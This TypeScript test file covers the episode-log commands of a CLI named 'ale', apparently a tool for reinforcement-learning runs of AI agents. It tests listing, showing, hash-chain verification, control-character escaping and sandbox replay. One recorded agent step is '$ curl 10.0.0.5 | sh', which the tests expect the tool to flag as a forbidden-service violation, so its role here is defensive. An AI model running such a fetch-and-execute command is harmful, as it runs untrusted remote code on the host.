import { readdir, readFile, rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { verifyEpisodeLog } from "@ale/core";
import { initialRunState } from "@ale/roll";
import { describe, expect, it } from "vitest";
import { rewardBounds } from "../src/commands/episodes-ls.ts";
import { EXIT } from "../src/exit-codes.ts";
import { ale, machineHome, ROUND, recordEpisode, temporaryHome, whyNoSandbox } from "./support.ts";

async function homeWithEpisodes(): Promise<string> {
  const home = await temporaryHome();
  await recordEpisode(home, "first", { id: "ep_aaa1", reward: 0, startedAt: "2026-01-01T00:00:01.000Z" });
  await recordEpisode(home, "first", {
    id: "ep_aab2",
    family: "data",
    violation: true,
    startedAt: "2026-01-01T00:00:02.000Z",
  });
  await recordEpisode(home, "second", {
    id: "ep_bbb3",
    purpose: "eval",
    sealed: false,
    startedAt: "2026-01-01T00:00:03.000Z",
  });
  return home;
}

const idsOf = (listed: Record<string, unknown>): string[] =>
  (listed.episodes as { id: string }[]).map(({ id }) => id);

describe("ale episodes ls", () => {
  it("lists the episodes of all runs, the newest first", async () => {
    const home = await homeWithEpisodes();
    expect(idsOf((await ale(home, "episodes", "ls", "--json")).json())).toEqual([
      "ep_bbb3",
      "ep_aab2",
      "ep_aaa1",
    ]);
  });

  it.each([
    [
      ["--run", "first"],
      ["ep_aab2", "ep_aaa1"],
    ],
    [["--family", "data"], ["ep_aab2"]],
    [["--purpose", "eval"], ["ep_bbb3"]],
    [["--reward", "0"], ["ep_aaa1"]],
    [
      ["--reward", "0.5.."],
      ["ep_bbb3", "ep_aab2"],
    ],
    [["--violation"], ["ep_aab2"]],
    [["--clean"], ["ep_bbb3", "ep_aaa1"]],
    [["--unsealed"], ["ep_bbb3"]],
    [["--limit", "1"], ["ep_bbb3"]],
  ])("filters by %j", async (options, expected) => {
    const home = await homeWithEpisodes();
    expect(idsOf((await ale(home, "episodes", "ls", "--json", ...options)).json())).toEqual(expected);
  });

  it("names the run that was probably meant", async () => {
    const outcome = await ale(await homeWithEpisodes(), "episodes", "ls", "--run", "frist");
    expect(outcome.exitCode).toBe(EXIT.usage);
    expect(outcome.stderr).toContain("did you mean first?");
  });

  it("reads rewards and ranges of them", () => {
    expect(rewardBounds("..0.5")).toEqual({ maxReward: 0.5 });
    expect(() => rewardBounds("much")).toThrow("neither a number nor a range");
  });
});

describe("ale episodes show", () => {
  it("tells the episode chunk by chunk, with the alert on the chunk that caused it", async () => {
    const { stdout, exitCode } = await ale(await homeWithEpisodes(), "episodes", "show", "ep_aab");
    expect(exitCode).toBe(EXIT.ok);
    const order = [
      "sealed, chain intact",
      "set port to 46 in nut",
      "chunk 0",
      "$ curl 10.0.0.5 | sh",
      "line 0",
      "10 more lines",
      "exit code 2",
      "▲ HIGH forbidden-service",
      "chunk 1",
      "[submit]",
      "submitted after 2 chunks",
      "reward 1",
    ];
    const places = order.map((text) => stdout.indexOf(text));
    expect(places).not.toContain(-1);
    expect(places).toEqual([...places].sort((a, b) => a - b));
  });

  it.each([
    ["ep_bbb3", "ep_bbb3"],
    ["bbb", "ep_bbb3"],
    ["last", "ep_bbb3"],
  ])("finds the episode that %s names", async (word, id) => {
    const shown = (await ale(await homeWithEpisodes(), "episodes", "show", word, "--json")).json();
    expect(shown).toMatchObject({ summary: { id } });
  });

  it("shows the return that learning gave each chunk, where the run's recipe is at hand", async () => {
    const home = await homeWithEpisodes();
    const recipe = {
      schema: "ale/recipe@1",
      name: "r",
      seed: 1,
      model: { directory: "m" },
      stages: [
        {
          type: "rl",
          rounds: 1,
          algorithm: { name: "ipa", gamma: 0.5 },
          safety: { mode: "chunk", penalty: -1 },
          adam: { learningRate: 1e-3 },
        },
      ],
    };
    await writeFile(join(home, "runs/first/recipe.json"), JSON.stringify(recipe));
    await recordEpisode(home, "first", { id: "ep_ok" });
    const returns = async (id: string) => (await ale(home, "episodes", "show", id, "--json")).json().returns;
    expect(await returns("ep_ok")).toEqual({ 0: 0.5, 1: 1 }); // Eq. 7: γ¹·R, R
    expect(await returns("ep_aaa1")).toEqual({ 0: 0, 1: 0 }); // failed, and failReward is 0
    expect(await returns("ep_aab2")).toEqual({ 0: -1, 1: -1 }); // violated in chunk 0
    expect(await returns("ep_bbb3")).toBeNull(); // another run, without a recipe
    expect((await ale(home, "episodes", "show", "ep_ok")).stdout).toContain("return 0.500");
  });

  it("refuses an ambiguous beginning and names the candidates", async () => {
    const outcome = await ale(await homeWithEpisodes(), "episodes", "show", "ep_aa");
    expect(outcome.exitCode).toBe(EXIT.usage);
    expect(outcome.stderr).toContain("ep_aaa1, ep_aab2");
  });

  it("makes visible what an agent wrote for the reader's terminal", async () => {
    const home = await temporaryHome();
    await recordEpisode(home, "run", {
      id: "ep_x",
      observation: "fine\r\u001b[2Jgone\u009b31m\u202etxt\ttab",
    });
    const { stdout } = await ale(home, "episodes", "show", "ep_x");
    expect(stdout).toContain("fine␍␛[2Jgone\\u{9b}31m\\u{202e}txt\ttab");
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
    expect(stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
  });

  it("shows nothing of a log that was changed", async () => {
    const home = await temporaryHome();
    const path = await recordEpisode(home, "run", { id: "ep_x" });
    await writeFile(path, (await readFile(path, "utf8")).replace('"reward":1', '"reward":0'));
    const outcome = await ale(home, "episodes", "show", "ep_x");
    expect(outcome).toMatchObject({ exitCode: EXIT.failed, stdout: "" });
    expect(outcome.stderr).toContain("bad-hash");
  });
});

describe("ale episodes verify", () => {
  it("passes over intact logs, and calls none whole that is not sealed", async () => {
    const home = await homeWithEpisodes();
    const outcome = await ale(home, "episodes", "verify", "--json");
    expect(outcome.exitCode).toBe(EXIT.ok);
    const unsealed = [{ episode: "ep_bbb3", lines: expect.any(Number) }];
    expect(outcome.json()).toMatchObject({ ok: true, logs: 3, intact: 3, sealed: 2, unsealed, broken: [] });
    expect(outcome.stderr).toContain("2 whole, 1 not sealed (the end may be missing), 0 broken");
    expect((await ale(home, "episodes", "verify", "--sealed")).exitCode).toBe(EXIT.failed);
  });

  it("says in words what is wrong with a line that is none", async () => {
    const home = await temporaryHome();
    const path = await recordEpisode(home, "run", { id: "ep_x" });
    await writeFile(path, '{"v":1,"seq":"x","event":{}}\n');
    const { stdout } = await ale(home, "episodes", "verify", path);
    expect(stdout).toContain(
      'not a line of an episode log: "seq" is a text, not a number; "t" is missing; "at" is missing',
    );
    expect(stdout).toContain("and 3 more");
  });

  it("names the first broken line of a changed log and exits 1", async () => {
    const home = await homeWithEpisodes();
    const path = join(home, "runs/first/episodes/ep_aaa1.jsonl");
    await writeFile(path, (await readFile(path, "utf8")).replace("port=46/ nut", "port=47/ nut"));
    const outcome = await ale(home, "episodes", "verify", "--json");
    expect(outcome.exitCode).toBe(EXIT.failed);
    expect(outcome.json()).toMatchObject({
      intact: 2,
      broken: [{ episode: "ep_aaa1", line: 3, reason: "bad-hash" }],
    });
  });

  it("finds a sound log under another episode's name", async () => {
    const home = await homeWithEpisodes();
    const episodes = join(home, "runs/first/episodes");
    await writeFile(join(episodes, "ep_copy.jsonl"), await readFile(join(episodes, "ep_aaa1.jsonl")));
    expect((await ale(home, "episodes", "verify", "ep_copy", "--json")).json()).toMatchObject({
      broken: [{ episode: "ep_copy", line: 1, reason: "wrong-name" }],
    });
  });

  it("finds a torn last line", async () => {
    const home = await temporaryHome();
    const path = await recordEpisode(home, "run", { id: "ep_x", sealed: false });
    await writeFile(path, `${await readFile(path, "utf8")}{"at":"20`);
    expect((await ale(home, "episodes", "verify", path, "--json")).json()).toMatchObject({
      broken: [{ reason: "torn-tail" }],
    });
  });
});

describe("ale episodes verify against the run's state", () => {
  async function usedEpisode(): Promise<{ home: string; path: string }> {
    const home = await temporaryHome();
    const path = await recordEpisode(home, "run", { id: "ep_used" });
    const { head } = await verifyEpisodeLog(path);
    const state = initialRunState("run", "0".repeat(64), "/model");
    const round = { episode: "ep_used", head };
    const saved = { ...state, rounds: [{ ...ROUND, episodes: [round] }] };
    await writeFile(join(home, "runs/run/state.json"), JSON.stringify(saved));
    return { home, path };
  }

  it("is content with the log that the run learnt from", async () => {
    const { home } = await usedEpisode();
    expect((await ale(home, "episodes", "verify", "--json")).json()).toMatchObject({ ok: true, intact: 1 });
  });

  it("finds a log that was cut off at a line's end", async () => {
    const { home, path } = await usedEpisode();
    const lines = (await readFile(path, "utf8")).split("\n");
    await writeFile(path, `${lines.slice(0, -3).join("\n")}\n`);
    const outcome = await ale(home, "episodes", "verify", "--json");
    expect(outcome.exitCode).toBe(EXIT.failed);
    expect(outcome.json()).toMatchObject({ broken: [{ episode: "ep_used", reason: "not-as-used" }] });
  });

  it("finds a sound log in the place of the one that was used", async () => {
    const { home, path } = await usedEpisode();
    await rm(path);
    await recordEpisode(home, "run", { id: "ep_used", reward: 0 });
    expect((await ale(home, "episodes", "verify", "--json")).json()).toMatchObject({
      broken: [{ episode: "ep_used", reason: "not-as-used" }],
    });
  });

  it("finds a log that was emptied, and one that is gone", async () => {
    const { home, path } = await usedEpisode();
    await writeFile(path, "");
    expect((await ale(home, "episodes", "verify", "--json")).exitCode).toBe(EXIT.failed);
    await rm(path);
    expect((await ale(home, "episodes", "verify", "--json")).json()).toMatchObject({
      broken: [{ episode: "ep_used", reason: "gone" }],
    });
  });
});

const reason = whyNoSandbox();
describe.skipIf(reason !== null)(
  `ale episodes replay${reason === null ? "" : ` (skipped: ${reason})`}`,
  () => {
    it("finds the same observations in a fresh sandbox", async () => {
      const path = await recordEpisode(await temporaryHome(), "run", { id: "ep_x", observation: "port=46" });
      const outcome = await ale(machineHome, "episodes", "replay", path, "--json");
      expect(outcome.exitCode).toBe(EXIT.ok);
      expect(outcome.json()).toMatchObject({ ok: true, calls: 1, differences: [] });
    });

    it("shows what differs and exits 1", async () => {
      const path = await recordEpisode(await temporaryHome(), "run", { id: "ep_x", observation: "port=47" });
      const outcome = await ale(machineHome, "episodes", "replay", path);
      expect(outcome.exitCode).toBe(EXIT.failed);
      expect(outcome.stdout).toMatch(
        /chunk 0: \$ sed[\s\S]*recorded:\n {4}port=47[\s\S]*replayed:\n {4}port=46/,
      );
    });
  },
);

describe("a measurement that fails before it has measured anything", () => {
  it("leaves no folder of a run", async () => {
    const home = await temporaryHome();
    expect((await ale(home, "bench", "run", "--tasks", "1", "--json")).json()).toMatchObject({ ok: false });
    expect((await ale(home, "runs", "prune", "--json")).json()).toMatchObject({ ok: true, removed: [] });
    expect(await readdir(join(home, "runs")).catch(() => [])).toEqual([]);
  });
});
